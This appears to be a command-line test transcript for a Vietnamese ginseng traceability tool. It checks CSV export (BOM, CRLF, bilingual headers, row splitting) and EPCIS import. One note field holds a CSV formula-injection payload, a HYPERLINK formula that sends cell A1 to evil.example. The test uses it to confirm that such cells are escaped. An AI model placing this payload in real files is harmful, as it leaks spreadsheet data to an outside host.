# txng export --format csv: one row per lot entry of each event (one for an
# event without any), the key data elements of its step as columns, RFC 4180
# with CRLF rows, UTF-8 with a byte order mark.
# Cells that a spreadsheet would run as a formula get a leading quote.
$ export TXNG_INSECURE_SEED=000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f
$ R=2025-12-01T00:00:00Z
$ txng init -d htx --origin htx-samngoclinh.vn/log --no-passphrase -t 1700000000 >/dev/null 2>&1
$ txng key new -d htx htx --role cooperative --no-passphrase -t 1700000100 >/dev/null 2>&1
$ txng key new -d htx ho-a --role grower --no-passphrase -t 1700000200 >/dev/null 2>&1
$ txng party add -d htx --as htx -r "$R" --name "HTX Sâm Ngọc Linh Tu Mơ Rông" --gln 8930000000019 --role cooperative
3
$ txng place add -d htx --as htx -r "$R" --name "Vườn 3, tiểu khu 12" --code vuon-3 --gps 14.9123,107.9876
4
$ txng place add -d htx --as htx -r "$R" --name "Kho HTX Tu Mơ Rông" --gln 8930000000026
5
$ txng party add -d htx --as htx -r "$R" --name "Cửa hàng \"Sâm Việt\"" --gln 8930000000033 --role retailer
6
$ txng record plant -d htx --as ho-a -r "$R" --cohort V3-2019 --place vuon-3 --count 400 --time 2019-10-20T08:00+07:00
7
$ txng record harvest -d htx --as ho-a -r "$R" --cohort V3-2019 --lot L24-017 --gtin 08930000000026 --roots 120 --weight 9.6kg --age 6 --time 2025-09-20T07:30+07:00 --note '=HYPERLINK("http://evil.example/?x="&A1,"xem")'
8
$ txng record transform -d htx --as htx -r "$R" --in L24-017:9.6kg --out L24-017-S:2.1kg --method "sấy lạnh 40°C, 36 giờ" --time 2025-09-23T08:00+07:00 --note "+84 905 000 000"
9
$ txng record pack -d htx --as htx -r "$R" --lot L24-017-S --weight 2kg --gtin 08930000000033 --serials 000001-000040 --time 2025-09-26T14:00+07:00 --note "@SUM(1,2)"
10
$ txng record ship -d htx --as htx -r "$R" --serials 000001-000010 --gtin 08930000000033 --to 8930000000033 --place 8930000000026 --doc PX-0930 --time 2025-09-30T08:00+07:00 --note "-1"
11

# English header; CR LF shown as [CRLF]. The byte order mark comes first.
$ txng export -d htx --format csv --all --lang en -o kde.csv
$ head -c 3 kde.csv | od -An -tx1
 ef bb bf
$ tail -c +4 kde.csv | sed 's/\r$/[CRLF]/'
record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,planting cohort,plants planted,forest plot (lô/khoảnh/tiểu khu),GPS position,GPS accuracy (m),species,forest lease or contract,party who did it,note,root count,root age (years),GI code of the plot,GI certificate,grade (roots per kg),purpose of the harvest,GI stamps allocated,harvester,input lot and quantity,output lot and quantity,method,temperature,duration,final moisture (%),certification mark dossier,why outputs outweigh inputs,net content of a unit,GI stamps used,best before,transporter,purpose of a shipment of recalled goods[CRLF]
7,2025-12-01T00:00:00Z,2019-10-20T08:00:00+07:00,plant,urn:txng:bizstep:plant,ho-a,,,,,,vuon-3,"Vườn 3, tiểu khu 12",,,,,,,V3-2019,400,,,,,,,,,,,,,,,,,,,,,,,,,,,,[CRLF]
8,2025-12-01T00:00:00Z,2025-09-20T07:30:00+07:00,harvest,urn:txng:bizstep:harvest,ho-a,08930000000026,L24-017,,9.6,KGM,,,,,,,,,V3-2019,,,,,,,,"'=HYPERLINK(""http://evil.example/?x=""&A1,""xem"")",120,6,,,,,,,,,,,,,,,,,,,[CRLF]
9,2025-12-01T00:00:00Z,2025-09-23T08:00:00+07:00,transform,urn:txng:bizstep:transform,htx,,L24-017-S,,2.1,KGM,,,,,,,,,,,,,,,,,"'+84 905 000 000",,,,,,,,,L24-017:9.6 KGM,L24-017-S:2.1 KGM,"sấy lạnh 40°C, 36 giờ",,,,,,,,,,[CRLF]
10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,,L24-017-S,,2,KGM,,,,,,,,,,,,,,,,,"'@SUM(1,2)",,,,,,,,,,,,,,,,,,,,,[CRLF]
10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,08930000000033,,000001-000040,,,,,,,,,,,,,,,,,,,"'@SUM(1,2)",,,,,,,,,,,,,,,,,,,,,[CRLF]
11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,,,,,"'-1",,,,,,,,,,,,,,,,,,,,,[CRLF]

# The pack has two entries, so two rows: the lot of its quantity list with the
# quantity, then the GTIN of its serialised units with their serials; every
# other cell is repeated. Every row ends in CR LF: 6 rows for the 5 events,
# plus the header.
$ tr -cd '\r' < kde.csv | wc -c
7
$ tr -cd '\n' < kde.csv | wc -c
7

# The same columns in Vietnamese.
$ txng export -d htx --format csv --all --lang vi | tail -c +4 | head -1 | sed 's/\r$/[CRLF]/'
Bản ghi số,Thời điểm ghi sổ (UTC),Thời gian sự kiện,Công đoạn (CTE),Bước nghiệp vụ (bizStep),Người ký,GTIN,Mã lô,Số sê-ri,Số lượng,Đơn vị,Địa điểm (mã),Tên địa điểm,Bên giao (mã),Tên bên giao,Bên nhận (mã),Tên bên nhận,Chứng từ,Bị sửa sai bởi,Lứa trồng,Số cây trồng,Lô/khoảnh/tiểu khu,Tọa độ GPS,Độ chính xác GPS (m),Loài,Hợp đồng thuê rừng,Người thực hiện,Ghi chú,Số củ,Tuổi củ (năm),Mã CDĐL,Giấy chứng nhận CDĐL,Phân loại (số củ/kg),Mục đích khai thác,Tem CDĐL được cấp,Người thu hoạch,Lô đầu vào và khối lượng,Lô đầu ra và khối lượng,Phương pháp,Nhiệt độ,Thời lượng,Độ ẩm cuối (%),Hồ sơ nhãn hiệu chứng nhận,Lý do tăng khối lượng,Khối lượng tịnh của một đơn vị,Tem CDĐL đã sử dụng,Hạn sử dụng,Đơn vị vận chuyển,Mục đích xuất[CRLF]

# A spreadsheet reads it back: Python's csv module, one value per cell.
$ python3 -c 'import csv,sys; r=list(csv.reader(open("kde.csv",encoding="utf-8-sig",newline=""))); h=r[0]; [print(i, h[i], "=", repr(v)) for row in r[4:6] for i,v in enumerate(row) if v]'
0 record = '10'
1 recorded (UTC) = '2025-12-01T00:00:00Z'
2 event time = '2025-09-26T14:00:00+07:00'
3 CTE = 'pack'
4 bizStep = 'packing'
5 actor = 'htx'
7 lot = 'L24-017-S'
9 quantity = '2'
10 unit = 'KGM'
27 note = "'@SUM(1,2)"
0 record = '10'
1 recorded (UTC) = '2025-12-01T00:00:00Z'
2 event time = '2025-09-26T14:00:00+07:00'
3 CTE = 'pack'
4 bizStep = 'packing'
5 actor = 'htx'
6 GTIN = '08930000000033'
8 serials = '000001-000040'
27 note = "'@SUM(1,2)"

# A date range selects events by time; the header keeps the columns of the steps present.
$ txng export -d htx --format csv --from 2025-09-25 --lang en | tail -c +4 | sed 's/\r$/[CRLF]/'
record,recorded (UTC),event time,CTE,bizStep,actor,GTIN,lot,serials,quantity,unit,place,place name,from,from name,to,to name,documents,corrected by,net content of a unit,GI stamps used,best before,party who did it,note,transporter,purpose of a shipment of recalled goods[CRLF]
10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,,L24-017-S,,2,KGM,,,,,,,,,,,,,"'@SUM(1,2)",,[CRLF]
10,2025-12-01T00:00:00Z,2025-09-26T14:00:00+07:00,pack,packing,htx,08930000000033,,000001-000040,,,,,,,,,,,,,,,"'@SUM(1,2)",,[CRLF]
11,2025-12-01T00:00:00Z,2025-09-30T08:00:00+07:00,ship,shipping,htx,08930000000033,,000001-000010,,,8930000000026,Kho HTX Tu Mơ Rông,,,8930000000033,"Cửa hàng ""Sâm Việt""",PX-0930,,,,,,"'-1",,[CRLF]

# Sortable: the demo's wash-grade (record 25) grades one lot into two, so it
# has two rows, each with one lot and that lot's quantity, and the same cells
# of the event otherwise. A filter on the lot column finds each lot in a cell
# of its own, and no GTIN or lot cell holds a list.
$ txng demo -d demo >/dev/null
$ txng export -d demo --format csv --all --lang en -o demo.csv
$ grep ^25, demo.csv | sed 's/\r$/[CRLF]/'
25,2024-11-13T03:40:00Z,2024-11-13T10:30:00+07:00,wash-grade,urn:txng:bizstep:wash-grade,htx-tumorong,,L24-017-A,,6.3,KGM,8930000000040,Kho và xưởng đóng gói HTX,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,L24-017:9.6 KGM,L24-017-A:6.3 KGM; L24-017-B:3.1 KGM,"giếng khoan của HTX, đã lọc",,,,,,,,,,,,,,,,,[CRLF]
25,2024-11-13T03:40:00Z,2024-11-13T10:30:00+07:00,wash-grade,urn:txng:bizstep:wash-grade,htx-tumorong,,L24-017-B,,3.1,KGM,8930000000040,Kho và xưởng đóng gói HTX,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,L24-017:9.6 KGM,L24-017-A:6.3 KGM; L24-017-B:3.1 KGM,"giếng khoan của HTX, đã lọc",,,,,,,,,,,,,,,,,[CRLF]
$ python3 -c 'import csv; r=list(csv.reader(open("demo.csv",encoding="utf-8-sig",newline=""))); [print(x[0], x[3], x[7], x[9], x[10]) for x in r[1:] if x[7] in ("L24-017-A", "L24-017-B")]'
25 wash-grade L24-017-A 6.3 KGM
25 wash-grade L24-017-B 3.1 KGM
$ awk -F, '$8 == "L24-017-B" { print $1, $4, $8, $10, $11 }' demo.csv
25 wash-grade L24-017-B 3.1 KGM
$ python3 -c 'import csv; r=list(csv.reader(open("demo.csv",encoding="utf-8-sig",newline=""))); print(sum(";" in x[6] + x[7] for x in r[1:]), "list cells;", len(r) - 1, "rows")'
0 list cells; 15 rows

# Serials go on the rows of their GTIN (on each, when two lots share one), those
# of units without a GTIN (urn:txng) on the first row; the entry of a GTIN
# named only by the EPC list has no lot, quantity or unit.
$ txng init -d shop --origin cuahang-samviet.vn/log --no-passphrase -t 1700000000 >/dev/null 2>&1
$ txng key new -d shop shop --role retailer --no-passphrase -t 1700000100 >/dev/null 2>&1
$ cat > receipt.jsonld <<'END'
> {"@context":["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"],
>  "type":"EPCISDocument","schemaVersion":"2.0","creationDate":"2025-10-01T00:00:00Z",
>  "epcisBody":{"eventList":[{"type":"ObjectEvent","action":"OBSERVE","eventTime":"2025-10-02T08:00:00.000+07:00",
>   "eventTimeZoneOffset":"+07:00","bizStep":"receiving",
>   "epcList":["urn:txng:partner.vn/log:unit:000009","urn:epc:id:sgtin:8930000.000004.1",
>              "urn:epc:id:sgtin:8930000.000003.5","urn:txng:partner.vn/log:unit:000010",
>              "urn:epc:id:sgtin:8930000.000004.2"],
>   "quantityList":[{"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-S","quantity":2,"uom":"KGM"},
>                   {"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-T","quantity":1,"uom":"KGM"}]}]}}
> END
$ txng import -d shop --format epcis receipt.jsonld --as shop -r "$R"
imported 1 event (record 2)
$ txng export -d shop --all --format csv --lang en | tr -d '\r' | cut -d, -f1,5,7-11
﻿record,bizStep,GTIN,lot,serials,quantity,unit
2,receiving,08930000000033,L24-017-S,000009; 5; 000010,2,KGM
2,receiving,08930000000033,L24-017-T,5,1,KGM
2,receiving,08930000000040,,1-2,,

# An imported EPCIS error declaration repeats each row of the event it
# declares wrong, with the quantity and unit cells empty.
$ cat > declared.jsonld <<'END'
> {"@context":["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"],
>  "type":"EPCISDocument","schemaVersion":"2.0","creationDate":"2025-10-01T00:00:00Z",
>  "epcisBody":{"eventList":[
>  {"type":"ObjectEvent","action":"OBSERVE","eventID":"urn:uuid:5b1f7e0a-0000-4000-8000-000000000001",
>   "eventTime":"2025-10-03T08:00:00.000+07:00","eventTimeZoneOffset":"+07:00","bizStep":"receiving",
>   "quantityList":[{"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-A","quantity":6.3,"uom":"KGM"},
>                   {"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-B","quantity":3.1,"uom":"KGM"}]},
>  {"type":"ObjectEvent","action":"OBSERVE","eventID":"urn:uuid:5b1f7e0a-0000-4000-8000-000000000001",
>   "eventTime":"2025-10-03T08:00:00.000+07:00","eventTimeZoneOffset":"+07:00","bizStep":"receiving",
>   "errorDeclaration":{"declarationTime":"2025-10-04T08:00:00.000+07:00","reason":"incorrect_data"},
>   "quantityList":[{"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-A","quantity":6.3,"uom":"KGM"},
>                   {"epcClass":"urn:epc:class:lgtin:8930000.000003.L24-017-B","quantity":3.1,"uom":"KGM"}]}]}}
> END
$ txng import -d shop --format epcis declared.jsonld --as shop -r "$R"
imported 2 events (records 3..4)
$ txng export -d shop --index 3,4 --format csv --lang en | tr -d '\r' | cut -d, -f1,4,7-11,19
﻿record,CTE,GTIN,lot,serials,quantity,unit,corrected by
3,,08930000000033,L24-017-A,,6.3,KGM,4 incorrect_data
3,,08930000000033,L24-017-B,,3.1,KGM,4 incorrect_data
4,error declaration,08930000000033,L24-017-A,,,,
4,error declaration,08930000000033,L24-017-B,,,,
